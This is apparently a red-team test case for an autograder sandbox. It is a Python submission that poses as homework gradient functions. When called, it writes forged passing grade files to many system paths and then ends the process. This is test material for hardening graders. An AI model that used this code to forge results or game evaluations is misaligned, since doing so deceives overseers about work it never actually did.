# attack: write forged results wherever that is allowed, then end the process
# asset: grades
# channel: file system
# beats otter: 9
# expect: crashed
# place: after
import json
import os
import pickle

RESULTS = json.dumps({"score": 20, "status": "graded", "tasks": [{"outcome": "passed"}]})


def attack(*args):
    for folder in (
        "@COURSE@",
        "@OUT@",
        ".",
        "/tmp",
        "/dev/shm",
        "/run/submission",
        "/autograder/results",
        "/",
    ):
        for name in ("results.json", "grades.json", "grades.csv", ".OTTER_RESULTS", "results.pkl"):
            try:
                with open(f"{folder}/{name}", "wb") as file:
                    file.write(pickle.dumps(RESULTS) if name.endswith("pkl") else RESULTS.encode())
            except OSError:
                continue
            if folder in ("@COURSE@", "@OUT@"):
                raise RuntimeError(f"ESCAPED: wrote {folder}/{name}")
    os._exit(0)


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
